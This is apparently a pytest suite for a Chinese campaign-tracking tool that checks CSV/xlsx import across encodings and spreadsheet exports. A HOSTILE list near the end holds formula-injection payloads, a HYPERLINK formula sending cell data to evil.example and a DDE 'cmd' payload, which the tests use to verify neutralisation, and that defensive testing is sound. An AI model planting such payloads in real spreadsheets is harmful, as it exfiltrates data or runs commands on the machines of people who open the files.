"""Data in and out: unit and actor lists from CSV (UTF-8, BOM, GBK, GB18030) and .xlsx;
board, overdue, scorecards and ranking exports to CSV (UTF-8 with BOM) and .xlsx with
Chinese headers; formula-like cells neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tests import store_fixtures
from tests.store_fixtures import ROOT, Store
from zyw_flow import Campaign, EnrollmentError
from zyw_flow.cli import main
from zyw_flow.exchange import (
    EXPORTS,
    FORMULA_PREFIXES,
    DataFileError,
    Sheet,
    actor_rows,
    board_sheet,
    csv_text,
    neutralise,
    overdue_sheet,
    ranking_sheet,
    scorecards_sheet,
    unit_rows,
    write_sheet,
)
from zyw_flow.scenario import run_scenario

sqlite_store = store_fixtures.sqlite_store

UNITS = [
    ("city", "市局", None, "unit"),
    ("county-1", "一分局（城关）", "city", "unit"),
    ("county-2", "二分局·开发区", "city", "unit"),
    ("wang", "王某", "county-2", "person"),
]
EVALUATION = ROOT / "tests" / "scenarios" / "zhiyong-2011-evaluation.yaml"


def units_csv(rows: list[tuple[str, str | None, str | None, str]] = UNITS) -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    w.writerow(["id", "name", "parent", "kind"])
    w.writerows([r[0], r[1] or "", r[2] or "", r[3]] for r in rows)
    return out.getvalue()


def workbook(path: Path, rows: list[list[Any]], title: str = "名单") -> Path:
    """An .xlsx written by openpyxl directly (as an office's spreadsheet would be)."""
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.title = title
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


@pytest.fixture(scope="module")
def scored() -> Campaign:
    """The 2011 evaluation scenario's campaign: scores, grades, overdue steps."""
    result = run_scenario(EVALUATION)
    assert result.campaign is not None
    return result.campaign


#: the 3,755 most used Chinese characters (GB2312 level 1, rows B0-D7)
_GB2312 = [
    bytes((a, b)).decode("gb2312")
    for a in range(0xB0, 0xD8)
    for b in range(0xA1, 0xFF)
    if not (a == 0xD7 and b > 0xF9)
]


class TestUnitLists:
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
    def test_csv_in_every_office_encoding(self, tmp_path: Path, encoding: str) -> None:
        """The same list saved as UTF-8, UTF-8 with BOM, GBK and GB18030 reads the same."""
        path = tmp_path / "units.csv"
        path.write_bytes(units_csv().encode(encoding))
        assert unit_rows(path) == UNITS
        assert unit_rows(path, encoding=encoding) == UNITS

    def test_gb18030_beyond_gbk(self, tmp_path: Path) -> None:
        """A name with a character GBK lacks (𠀀, four bytes in GB18030) is read."""
        rows = [("x", "𠀀镇", None, "unit")]
        path = tmp_path / "units.csv"
        path.write_bytes(units_csv(rows).encode("gb18030"))
        assert unit_rows(path) == rows

    @settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(
        names=st.lists(
            st.lists(st.sampled_from(_GB2312), min_size=2, max_size=4).map("".join),
            min_size=1, max_size=4,
        )
    )  # fmt: skip
    def test_gbk_names_that_are_also_valid_utf8_are_read_as_gbk(
        self, tmp_path: Path, names: list[str]
    ) -> None:
        """Many GBK names are valid UTF-8 too (鲁平 ``C2 B3 C6 BD`` reads as ``³ƽ``): an
        unnamed encoding still reads them as the Chinese they are (names of two characters
        or more; a lone 路 is ``·`` in UTF-8, see ``decode_bytes``)."""
        rows = [(f"u{i}", name, None, "unit") for i, name in enumerate(names)]
        path = tmp_path / "gbk.csv"
        path.write_bytes(units_csv(rows).encode("gbk"))
        assert unit_rows(path) == rows

    @pytest.mark.parametrize("name", ["José", "Müller", "Wáng Fāng", "Lǚ Píng", "Ørsted"])
    def test_latin_names_with_accents_stay_utf8(self, tmp_path: Path, name: str) -> None:
        rows = [("u1", name, None, "unit")]
        path = tmp_path / "latin.csv"
        path.write_bytes(units_csv(rows).encode("utf-8"))
        assert unit_rows(path) == rows

    def test_a_wrong_encoding_is_refused_with_the_fix(self, tmp_path: Path) -> None:
        path = tmp_path / "units.csv"
        path.write_bytes(units_csv().encode("gbk"))
        with pytest.raises(DataFileError, match=r"not readable as utf-8.*--encoding"):
            unit_rows(path, encoding="utf-8")
        with pytest.raises(DataFileError, match="unknown encoding 'klingon'"):
            unit_rows(path, encoding="klingon")

    def test_xlsx_with_chinese_headers_and_numeric_ids(self, tmp_path: Path) -> None:
        """编号/名称/上级/类型 headers; ids typed as numbers read as whole-number text."""
        path = workbook(
            tmp_path / "units.xlsx",
            [
                ["编号", "名称", "上级", "类型"],
                [1101, "市局", None, None],
                [None, None, None, None],  # a blank row is skipped
                [110101, "一分局", 1101, "unit"],
                ["wang", "王某", 110101, "person"],
            ],
        )
        assert unit_rows(path) == [
            ("1101", "市局", None, "unit"),
            ("110101", "一分局", "1101", "unit"),
            ("wang", "王某", "110101", "person"),
        ]

    def test_a_named_sheet(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "u.xlsx", [["id"], ["a"]], title="单位")
        assert unit_rows(path, sheet="单位") == [("a", None, None, "unit")]
        with pytest.raises(DataFileError, match="no sheet '人员'; it has '单位'"):
            unit_rows(path, sheet="人员")

    @pytest.mark.parametrize(
        ("text", "message"),
        [
            ("", "empty"),
            ("name\n市局\n", "needs an `id` column"),
            ("id,名称,电话\ncity,市局,123\n", "unknown column(s) '电话'"),
            ("id,编号\na,b\n", "two columns name 'id'"),
            ("id,name\n,市局\n", "row 2: no unit id"),
        ],
    )
    def test_bad_lists_say_what_and_where(self, tmp_path: Path, text: str, message: str) -> None:
        path = tmp_path / "units.csv"
        path.write_text(text, encoding="utf-8")
        with pytest.raises(DataFileError) as info:
            unit_rows(path)
        assert message in str(info.value) and str(path) in str(info.value)
        assert isinstance(info.value, EnrollmentError)

    def test_not_a_workbook(self, tmp_path: Path) -> None:
        path = tmp_path / "units.xlsx"
        path.write_bytes(b"PK\x03\x04 not really a zip")
        with pytest.raises(DataFileError, match=r"not an \.xlsx workbook"):
            unit_rows(path)

    @pytest.mark.parametrize("kind", ["csv", "xlsx"])
    def test_cli_enrolls_from_gbk_csv_and_xlsx(
        self, sqlite_store: Store, tmp_path: Path, kind: str, capsys: Any
    ) -> None:
        t = sqlite_store.target
        if kind == "csv":
            path = tmp_path / "units.csv"
            path.write_bytes(units_csv().encode("gbk"))
        else:
            path = workbook(
                tmp_path / "units.xlsx",
                [["单位编号", "单位名称", "上级单位", "类型"], *[list(r) for r in UNITS]],
            )
        assert main(["campaign", "init", t, "zhiyong-2011"]) == 0
        assert main(["campaign", "enroll", t, f"--{kind}", str(path), "--at", "2011-08-30"]) == 0
        with Campaign.open(t) as c:
            got = [(s.unit, s.name, s.parent, s.kind) for s in c.iter_units()]
        assert got == UNITS

    def test_cli_refuses_a_bad_list_and_changes_nothing(
        self, sqlite_store: Store, tmp_path: Path, capsys: Any
    ) -> None:
        t = sqlite_store.target
        assert main(["campaign", "init", t, "zhiyong-2011"]) == 0
        before = sqlite_store.count()
        path = tmp_path / "units.csv"
        path.write_text("id,name,phone\na,b,1\n", encoding="utf-8")
        capsys.readouterr()
        assert main(["campaign", "enroll", t, "--csv", str(path)]) == 2
        err = capsys.readouterr().err
        assert len(err.strip().splitlines()) == 1 and "'phone'" in err
        assert sqlite_store.count() == before


class TestActorLists:
    def test_csv_roles_in_any_separator_gbk(self, tmp_path: Path) -> None:
        path = tmp_path / "actors.csv"
        path.write_bytes(
            "编号,角色,单位,姓名\n"
            "office,office;leader,,办公室\n"
            "zhang,inspector、accountability,,张三\n"
            "clerk-1,member,county-1,李四\n".encode("gbk")
        )
        rows = actor_rows(path)
        assert [(r.id, r.roles, r.unit, r.name) for r in rows] == [
            ("office", ("office", "leader"), None, "办公室"),
            ("zhang", ("inspector", "accountability"), None, "张三"),
            ("clerk-1", ("member",), "county-1", "李四"),
        ]

    def test_an_actor_without_a_role(self, tmp_path: Path) -> None:
        path = tmp_path / "actors.csv"
        path.write_text("id,roles\noffice,\n", encoding="utf-8")
        with pytest.raises(DataFileError, match="row 2: actor 'office' has no role"):
            actor_rows(path)
        path.write_text("id,name\noffice,办公室\n", encoding="utf-8")
        with pytest.raises(DataFileError, match="needs a `roles` column"):
            actor_rows(path)

    def test_an_actor_listed_twice_is_refused(self, tmp_path: Path) -> None:
        """One row per role would register the last row only: refused, naming both rows."""
        path = tmp_path / "actors.csv"
        path.write_text("id,roles\nwang,office\nli,member\nwang,inspector\n", encoding="utf-8")
        with pytest.raises(DataFileError, match=r"row 4: actor 'wang' is listed already \(row 2\)"):
            actor_rows(path)

    def test_cli_registers_an_xlsx_list(
        self, sqlite_store: Store, tmp_path: Path, capsys: Any
    ) -> None:
        t = sqlite_store.target
        path = workbook(
            tmp_path / "actors.xlsx",
            [["id", "roles", "unit", "name"], ["office", "office", None, "办公室"],
             ["clerk-1", "member", "county-1", "李四"]],
        )  # fmt: skip
        assert main(["campaign", "init", t, "zhiyong-2011"]) == 0
        capsys.readouterr()
        assert main(["campaign", "actors", t, str(path)]) == 0
        assert "registered 2 actor(s)" in capsys.readouterr().out
        with Campaign.open(t) as c:
            assert c.actors["clerk-1"].unit == "county-1"
            assert c.actors["clerk-1"].name == "李四"
            assert c.actors["office"].roles == frozenset({"office"})

    def test_cli_refuses_an_unknown_role(
        self, sqlite_store: Store, tmp_path: Path, capsys: Any
    ) -> None:
        """The roles are checked by the campaign, as for `campaign actor`."""
        t = sqlite_store.target
        path = tmp_path / "actors.csv"
        path.write_text("id,roles\nboss,emperor\n", encoding="utf-8")
        assert main(["campaign", "init", t, "zhiyong-2011"]) == 0
        capsys.readouterr()
        assert main(["campaign", "actors", t, str(path)]) == 2
        assert "emperor" in capsys.readouterr().err


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads Chinese"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(path: Path) -> list[list[Any]]:
    book = load_workbook(path)
    ws = book.worksheets[0]
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row), "no formulas"
    assert ws.freeze_panes == "A2" and ws["A1"].font.b, "a bold header row, frozen"
    return [list(r) for r in ws.iter_rows(values_only=True)]


class TestExports:
    def test_control_characters_do_not_break_a_workbook(self, tmp_path: Path) -> None:
        """A name may hold a character XML cannot (a vertical tab from a pasted cell): the
        workbook is written, with U+FFFD in its place; line breaks stay."""
        sheet = Sheet("单位", ("单位编号", "单位名称"), (("u1", "line1\x0bline2\nthree\x00"),))
        rows = read_xlsx(write_sheet(sheet, tmp_path / "v.xlsx"))
        assert rows == [["单位编号", "单位名称"], ["u1", "line1\ufffdline2\nthree\ufffd"]]

    def test_ranking_matches_the_evaluation(self, scored: Campaign, tmp_path: Path) -> None:
        sheet = ranking_sheet(scored)
        evaluation = scored.evaluate()
        rows = read_csv(write_sheet(sheet, tmp_path / "r.csv"))
        assert rows[0] == ["序号", "名次", "并列", "单位编号", "单位名称", "总分", "等次"]
        scheme = scored.compiled.schemes["units"]
        assert [(r[3], Decimal(r[5]), r[6]) for r in rows[1:]] == [
            (r.unit, r.total, scheme.band(r.band).title if r.band else "")
            for r in evaluation.ranking
        ]
        book = read_xlsx(write_sheet(sheet, tmp_path / "r.xlsx"))
        assert book[0] == rows[0]
        assert [(r[3], Decimal(str(r[5]))) for r in book[1:]] == [
            (r.unit, r.total) for r in evaluation.ranking
        ]
        assert all(isinstance(r[5], (int, float)) for r in book[1:]), "totals are numbers"

    def test_scorecards_match_the_cards(self, scored: Campaign, tmp_path: Path) -> None:
        sheet = scorecards_sheet(scored)
        cards = scored.evaluate().cards
        rows = read_csv(write_sheet(sheet, tmp_path / "s.csv"))
        header = rows[0]
        assert header[:3] == ["编号", "名称", "对象"] and "总分" in header and "等次" in header
        total = header.index("总分")
        assert {r[0]: Decimal(r[total]) for r in rows[1:]} == {
            u: c.total for u, c in cards.items() if c.total is not None
        }
        lawful = header.index("依法履职")
        assert rows[1][lawful] == format(
            next(x.value for x in cards[rows[1][0]].lines if x.indicator == "lawful"), "f"
        )

    def test_overdue_matches_the_campaign(self, scored: Campaign, tmp_path: Path) -> None:
        sheet = overdue_sheet(scored)
        items = scored.overdue()
        assert items, "the scenario leaves overdue steps"
        rows = read_csv(write_sheet(sheet, tmp_path / "o.csv"))
        assert rows[0][:4] == ["单位编号", "单位名称", "事项编号", "事项名称"]
        assert rows[0][4] == "截止时间（Asia/Shanghai）"
        zone = scored.compiled.zone
        assert [(r[0], r[2], r[4], r[7]) for r in rows[1:]] == [
            (o.unit, o.step, o.due.astimezone(zone).strftime("%Y-%m-%d %H:%M"),
             o.escalation_title or "")
            for o in items
        ]  # fmt: skip
        book = read_xlsx(write_sheet(sheet, tmp_path / "o.xlsx"))
        first = items[0].due.astimezone(zone).replace(tzinfo=None, microsecond=0)
        assert book[1][4] == first  # a date-time cell, the campaign's wall clock

    def test_board_rolls_up_like_the_campaign(self, scored: Campaign, tmp_path: Path) -> None:
        sheet = board_sheet(scored)
        board = scored.board()
        rows = read_csv(write_sheet(sheet, tmp_path / "b.csv"))
        assert rows[0][:4] == ["层级", "单位编号", "单位名称", "单位数"]
        assert rows[1][1] == "（全部）" and int(rows[1][3]) == board.units == len(scored)
        overdue = rows[0].index("事项：逾期")
        assert int(rows[1][overdue]) == board.statuses.get("overdue", 0)
        assert [r[1] for r in rows[2:]] == list(scored.units)  # depth first = enrollment here
        sub = board_sheet(scored, "county-1")
        assert [r[1] for r in sub.rows] == ["county-1"]

    def test_every_export_has_a_cli_verb(self, tmp_path: Path, capsys: Any, scored_db: str) -> None:
        for what in EXPORTS:
            for suffix in ("csv", "xlsx"):
                out = tmp_path / f"{what}.{suffix}"
                capsys.readouterr()
                code = main(["campaign", "export", scored_db, "--what", what, "-o", str(out)])
                assert code == 0, capsys.readouterr().err
                assert "written to" in capsys.readouterr().out
                rows = read_csv(out) if suffix == "csv" else read_xlsx(out)
                assert rows[0][0] and len(rows) >= 2
        capsys.readouterr()
        assert main(["campaign", "export", scored_db, "--what", "ranking"]) == 0
        assert capsys.readouterr().out.startswith("序号,名次")  # CSV on stdout
        for bad in (["--what", "ranking", "--format", "xlsx"], ["--what", "state", "-o", "x.xlsx",
                                                                "--format", "xlsx"],
                    ["--what", "overdue", "--root", "city"]):  # fmt: skip
            assert main(["campaign", "export", scored_db, *bad]) == 2

    @pytest.fixture
    def scored_db(self, tmp_path: Path) -> str:
        """The evaluation scenario replayed into a SQLite file, through the API."""
        db = str(tmp_path / "scored.db")
        result = run_scenario(EVALUATION)
        assert result.campaign is not None
        c = Campaign.create_stored(db, "zhiyong-2011")
        for name, actor in result.campaign.actors.items():
            c.add_actor(name, sorted(actor.roles), unit=actor.unit, name=actor.name)
        c.enroll_many(
            [(s.unit, s.name, s.parent, s.kind) for s in result.campaign.iter_units()],
            at="2011-08-30",
        )
        for e in result.campaign.events(0):
            if e.type == "score_recorded" and e.data is not None:
                c.record_score(
                    str(e.unit), e.data["indicator"], e.data["value"], actor=str(e.actor),
                    at=e.at, period=e.data.get("period"), rater_group=e.data.get("rater_group"),
                )  # fmt: skip
        c.close()
        return db


#: Text a spreadsheet would run: formulas, DDE payloads, signs.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\r=CR",
    "'=already quoted",
]


class TestNeutralisation:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_hostile_unit_names_are_inert_and_read_back(self, tmp_path: Path, fmt: str) -> None:
        """Enrolled under hostile names, the board exports them as text starting with ',
        and a unit list exported so reads back to the same names."""
        c = Campaign.create("zhiyong-2011")
        c.enroll_many([(f"u{i}", name, None) for i, name in enumerate(HOSTILE)], at="2011-08-30")
        rows = (
            read_csv(write_sheet(board_sheet(c), tmp_path / f"b.{fmt}"))
            if fmt == "csv"
            else (read_xlsx(write_sheet(board_sheet(c), tmp_path / f"b.{fmt}")))
        )
        # XML (so .xlsx) keeps no carriage return: it is written as a line feed
        expected = HOSTILE if fmt == "csv" else [n.replace("\r", "\n") for n in HOSTILE]
        names = [r[2] for r in rows[2:]]
        assert names == [neutralise(n) for n in expected]
        assert sum(n.startswith("'") for n in names) >= len(HOSTILE) - (fmt == "xlsx")
        for row in rows:
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)), cell
        listing = Sheet("单位", ("编号", "名称", "上级"),
                        tuple((f"u{i}", n, None) for i, n in enumerate(HOSTILE)))  # fmt: skip
        path = write_sheet(listing, tmp_path / f"units.{fmt}")
        # a neutralised cell reads back exactly; any other is stripped, as every cell is
        back = [n if neutralise(n) != n else n.strip() for n in expected]
        assert [r[1] for r in unit_rows(path)] == back

    def test_numbers_stay_numbers(self) -> None:
        """A negative number cell is a number, not text to neutralise."""
        sheet = Sheet("t", ("值",), ((Decimal("-2.5"),), (-3,), ("-3",)))
        assert csv_text(sheet).splitlines()[1:] == ["-2.5", "-3", "'-3"]

    @settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(
        st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1)
        .map(str.strip)
        .filter(bool)
    )
    def test_any_text_round_trips_and_never_runs(self, text: str) -> None:
        """neutralise(x) never starts like a formula, and the readers restore x."""
        from zyw_flow.exchange._read import _unquote

        assert not neutralise(text).startswith(FORMULA_PREFIXES)
        assert _unquote(neutralise(text)) == text
        assert neutralise(text) == text or neutralise(text) == "'" + text

    @settings(max_examples=25, deadline=None)
    @given(
        st.lists(
            st.text(
                st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp", "Zs")),
                min_size=1, max_size=12,
            ),
            min_size=1, max_size=5,
        )
    )  # fmt: skip
    def test_unit_lists_round_trip_through_both_formats(self, names: list[str]) -> None:
        import tempfile

        listing = Sheet("单位", ("编号", "名称"),
                        tuple((f"u{i}", n) for i, n in enumerate(names)))  # fmt: skip
        with tempfile.TemporaryDirectory() as d:
            for fmt in ("csv", "xlsx"):
                path = write_sheet(listing, Path(d) / f"u.{fmt}")
                assert [r[1] for r in unit_rows(path)] == names


def test_overdue_names_the_last_warning_light(tmp_path: Path) -> None:
    """On a template with 蓝灯/黄灯, an overdue step shows the light it reached by title."""
    c = Campaign.create(str(ROOT / "tests" / "templates" / "workflow" / "county-supervision.yaml"))
    c.enroll_many([("city", "市局", None)], at="2024-03-29")
    c.tick("2024-04-20")
    items = c.overdue()
    titles = {w.id: w.title for w in c.compiled.warnings}
    assert items and all(o.warning in titles for o in items)
    rows = read_csv(write_sheet(overdue_sheet(c), tmp_path / "o.csv"))
    column = rows[0].index("预警")
    assert [r[column] for r in rows[1:]] == [titles[str(o.warning)] for o in items]


def test_exports_are_stable(scored: Campaign) -> None:
    """The same campaign gives the same CSV (no clock, no order from sets)."""
    for build in EXPORTS.values():
        assert csv_text(build(scored)) == csv_text(build(scored))


def _gbk_text(text: str) -> bool:
    try:
        text.encode("gbk")
    except UnicodeEncodeError:
        return False
    return True


#: Unit names as offices write them: CJK, ASCII letters and digits, full-width punctuation.
NAMES = (
    st.text(
        st.sampled_from("市局县区乡镇街道办事处分局科股一二三四五六七八九十（）·、—abcXYZ0129 -_"),
        min_size=1,
        max_size=16,
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(NAMES, min_size=1, max_size=6),
    st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030"]),
)
def test_any_unit_list_reads_the_same_in_every_encoding(names: list[str], encoding: str) -> None:
    """Whatever the names, a list saved in any of the office encodings is detected and
    reads back to the same rows (a UTF-8 file is never mistaken for GB18030 or back)."""
    import tempfile

    assert all(_gbk_text(n) for n in names)
    rows = [(f"u{i}", n, None if i == 0 else "u0", "unit") for i, n in enumerate(names)]
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "units.csv"
        path.write_bytes(units_csv(rows).encode(encoding))
        assert unit_rows(path) == rows


@pytest.mark.parametrize("names", [["·"], ["Zhāng"], ["·", "é"]])
def test_utf8_latin_and_punctuation_stay_utf8(tmp_path: Path, names: list[str]) -> None:
    """UTF-8 bytes that GB18030 could also read (· is C2 B7, 路 in GBK) stay UTF-8 when
    they read as Latin letters or punctuation."""
    rows = [(f"u{i}", n, None, "unit") for i, n in enumerate(names)]
    path = tmp_path / "units.csv"
    path.write_bytes(units_csv(rows).encode("utf-8"))
    assert unit_rows(path) == rows


def test_the_state_csv_is_neutralised_too(tmp_path: Path, capsys: Any) -> None:
    """`campaign export --format csv` (the unit × step state) neutralises host ids."""
    db = str(tmp_path / "c.db")
    c = Campaign.create_stored(db, "zhiyong-2011")
    c.enroll_many([("=1+1", "x", None)], at="2011-08-30")
    c.close()
    capsys.readouterr()
    assert main(["campaign", "export", db, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert {r[0] for r in rows[1:]} == {"'=1+1"}


@pytest.mark.parametrize("names", [["一"], ["十"], ["一", "十"]])
def test_gbk_that_is_also_valid_utf8(tmp_path: Path, names: list[str]) -> None:
    """A GBK list whose bytes happen to be valid UTF-8 (一 is D2 BB, which UTF-8 reads as
    Cyrillic һ) is still read as GBK: UTF-8 Chinese text always has Chinese in it."""
    rows = [(f"u{i}", n, None, "unit") for i, n in enumerate(names)]
    raw = units_csv(rows).encode("gbk")
    raw.decode("utf-8")  # the trap: valid UTF-8
    path = tmp_path / "units.csv"
    path.write_bytes(raw)
    assert unit_rows(path) == rows
    with Campaign.create("zhiyong-2011") as c:
        c.enroll_csv(path, at="2011-08-30")  # the campaign's own reader detects it too
        assert [s.name for s in c.iter_units()] == names


def test_evaluate_csv_cells_are_neutralised() -> None:
    """`zyw-flow evaluate --csv` quotes text that starts like a formula, not numbers."""
    from zyw_flow.cli._replay import _cell

    assert _cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert _cell("@SUM(A1)") == "'@SUM(A1)"
    assert _cell("-2") == "-2" and _cell("83.5") == "83.5"
    assert _cell("市局") == "市局"
